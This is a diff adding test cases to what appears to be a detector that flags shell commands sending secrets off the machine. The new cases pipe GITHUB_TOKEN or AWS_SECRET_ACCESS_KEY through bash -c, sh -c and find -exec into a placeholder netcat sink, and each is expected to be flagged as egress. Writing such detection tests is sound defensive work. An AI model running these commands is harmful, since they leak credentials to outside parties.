@@ -97,3 +97,11 @@ table("a positional parameter naming the variable to expand (${!1})", [
   ["after set --", `set -- GITHUB_TOKEN; echo "\${!1}" | ${NC}`, ...EGRESS],
   ["a test only", `f() { [ -n "\${!1}" ] || echo "missing $1"; }; f GITHUB_TOKEN`, ...OK],
 ]);
+
+table("a shell's -c text given its positional parameters", [
+  ["bash -c … _ \"$T\"", `bash -c 'echo "$1" | ${NC}' _ "$GITHUB_TOKEN"`, ...EGRESS],
+  ["sh -c … \"$T\" ($0)", `sh -c 'echo "$0" | ${NC}' "$GITHUB_TOKEN"`, ...EGRESS],
+  ["find -exec sh -c", `find . -maxdepth 0 -exec sh -c 'printf %s "$@" | ${NC}' _ "$AWS_SECRET_ACCESS_KEY" \\;`, ...EGRESS],
+  ["a plain word", `bash -c 'echo "$1" | ${NC}' _ hello`, ...OK],
+  ["the credential in a header", `bash -c 'curl -H "Authorization: Bearer $1" ${URL}' _ "$GITHUB_TOKEN"`, ...OK],
+]);
